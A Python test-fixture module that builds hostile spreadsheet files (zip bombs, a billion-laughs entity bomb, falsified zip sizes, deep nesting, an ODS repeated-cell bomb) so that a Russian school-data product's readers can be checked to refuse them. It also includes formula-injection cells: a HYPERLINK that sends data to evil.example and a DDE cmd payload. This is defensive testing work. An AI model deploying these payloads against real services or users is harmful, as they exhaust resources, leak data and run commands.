"""Hostile files, built here byte by byte: each is small on disk and expensive to a careless reader.

Every builder returns the bytes of the file. `HOSTILE` names each file, its name as uploaded and
the words of the Russian refusal expected from every table reader.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook '
    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>'
).encode()
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    b'Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    b'Target="sharedStrings.xml"/></Relationships>'
)
SHEET_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
    b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_CLOSE = b"</sheetData></worksheet>"
# The header every table reader of the product looks for first: the results and registry readers
# need «Код ОО», the collection reader «Код ОО» and «Показатель».
HEADER_CELLS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Код ОО</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Класс</t></is></c><c r="C1" t="inlineStr"><is><t>Предмет</t></is></c>'
    '<c r="D1" t="inlineStr"><is><t>Отметка</t></is></c><c r="E1" t="inlineStr"><is><t>Показатель</t></is></c>'
    "</row>"
).encode()
DATA_ROW = (
    '<row r="2"><c r="A2" t="inlineStr"><is><t>sch1</t></is></c><c r="B2" t="inlineStr"><is><t>5А</t></is></c>'
    '<c r="C2" t="inlineStr"><is><t>Математика</t></is></c><c r="D2"><v>4</v></c></row>'
).encode()


def xlsx(sheet_xml: bytes, *, shared_strings: bytes | None = None, stored: dict[str, bytes] | None = None) -> bytes:
    """A workbook of one sheet whose XML is given; `stored` adds members as they are."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        if shared_strings is not None:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        for name, data in (stored or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _deflated_member(name: str, size: int, chunk: bytes = b"\0") -> tuple[zipfile.ZipInfo, bytes]:
    """A member of ``size`` bytes of repeated ``chunk``, compressed without holding it whole."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = chunk * ((1 << 20) // len(chunk))
    parts, crc, left = [], 0, size
    while left:
        piece = block[: min(left, len(block))]
        parts.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(compressor.flush())
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.file_size, info.CRC = size, crc
    return info, b"".join(parts)


def _zip_with_raw(members: list[tuple[zipfile.ZipInfo, bytes]], plain: dict[str, bytes]) -> bytes:
    """A zip whose members in ``members`` are written already compressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in plain.items():
            archive.writestr(name, data)
        for info, compressed in members:
            info.compress_size = len(compressed)
            info.header_offset = buffer.tell()
            buffer.write(info.FileHeader(zip64=False))
            buffer.write(compressed)
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
            archive.start_dir = buffer.tell()
    return buffer.getvalue()


def sparse_corner() -> bytes:
    """Header and one more cell at XFD1048576: 4.9 KB that calamine would make 512 GB of."""
    return xlsx(SHEET_OPEN + HEADER_CELLS + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + SHEET_CLOSE)


def zip_bomb() -> bytes:
    """A workbook whose sheet unpacks from 300 KB to 300 MB (blank space inside sheetData)."""
    info, compressed = _deflated_member("xl/worksheets/sheet1.xml", 300 << 20, b" ")
    plain = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
    }
    return _zip_with_raw([(info, compressed)], plain)


def lying_sizes() -> bytes:
    """The sheet's directory entry claims 200 bytes; the deflate stream holds 50 MB."""
    sheet = SHEET_OPEN + HEADER_CELLS + DATA_ROW + b" " * (50 << 20) + SHEET_CLOSE
    data = bytearray(xlsx(sheet))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
        local = info.header_offset
    # Uncompressed size in the local header (offset 22) and in the central directory entry (24).
    struct.pack_into("<I", data, local + 22, 200)
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        if bytes(data[position + 46 : position + 46 + name_length]) == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, position + 24, 200)
        position += 4
    return bytes(data)


def billion_laughs() -> bytes:
    """Nested entities that expand to gigabytes in a parser that expands them."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol;" if n == 1 else b"&lol%d;" % (n - 1)) * 10) for n in range(1, 10)
    )
    sheet = (
        b'<?xml version="1.0"?><!DOCTYPE worksheet [' + entities + b"]>"
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + HEADER_CELLS
        + b'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        + SHEET_CLOSE
    )
    return xlsx(sheet)


def deep_nesting() -> bytes:
    """200 000 nested elements where the rows should be: a recursive parser runs out of stack."""
    depth = 200_000
    return xlsx(SHEET_OPEN + b"<x>" * depth + b"</x>" * depth + SHEET_CLOSE)


def huge_shared_strings() -> bytes:
    """A shared-strings table of 2 million strings (200 MB of XML) behind a header."""
    info, compressed = _deflated_member("xl/sharedStrings.xml", 200 << 20, "<si><t>Код ОО</t></si>".encode())
    plain = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": SHEET_OPEN + b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + SHEET_CLOSE,
    }
    return _zip_with_raw([(info, compressed)], plain)


def mimetype_bomb() -> bytes:
    """An OpenDocument container whose `mimetype` unpacks to 1 GB."""
    info, compressed = _deflated_member("mimetype", 1 << 30)
    return _zip_with_raw([(info, compressed)], {"content.xml": b"<office:document-content/>"})


def ods_repeat_bomb() -> bytes:
    """An 800-byte .ods whose one valued cell is repeated to 16 billion cells."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="Лист1"><table:table-row><table:table-cell office:value-type="string">'
        "<text:p>Код ОО</text:p></table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    ).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    return buffer.getvalue()


def formulas() -> bytes:
    """Formula cells with cached values that look harmless: they must be refused, not taken."""
    sheet = (
        SHEET_OPEN
        + HEADER_CELLS
        + (
            '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?d="&amp;B2,"sch1")</f><v>sch1</v></c>'
            '<c r="B2" t="inlineStr"><is><t>5А</t></is></c><c r="C2" t="inlineStr"><is><t>Математика</t></is></c>'
            "<c r=\"D2\"><f>cmd|' /C calc'!A0</f><v>4</v></c></row>"
        ).encode()
        + SHEET_CLOSE
    )
    return xlsx(sheet)


def formulas_without_values() -> bytes:
    """Formulas never calculated (no cached value): once «Не указан код ОО», now named as formulas."""
    sheet = SHEET_OPEN + HEADER_CELLS + b'<row r="2"><c r="A2"><f>CONCAT("sch","1")</f></c></row>' + SHEET_CLOSE
    return xlsx(sheet)


def empty() -> bytes:
    return b""


#: name → (file name as uploaded, builder, words of the expected refusal)
HOSTILE = {
    "sparse-corner": ("реестр.xlsx", sparse_corner, "почти пуст"),
    "zip-bomb": ("bomb.xlsx", zip_bomb, "сжат подозрительно сильно"),
    "lying-sizes": ("lie.xlsx", lying_sizes, "повреждён"),
    "billion-laughs": ("laughs.xlsx", billion_laughs, "DTD"),
    "deep-nesting": ("deep.xlsx", deep_nesting, "заголов"),
    "huge-shared-strings": ("strings.xlsx", huge_shared_strings, "сжат подозрительно сильно"),
    "mimetype-bomb": ("bomb.ods", mimetype_bomb, "сжат подозрительно сильно|после распаковки"),
    "ods-repeat-bomb": ("repeat.ods", ods_repeat_bomb, "повторённых ячеек|слишком велик"),
    "formulas": ("formulas.xlsx", formulas, "формул"),
    "formulas-without-values": ("formulas2.xlsx", formulas_without_values, "формул"),
    "empty": ("empty.xlsx", empty, "пуст"),
}
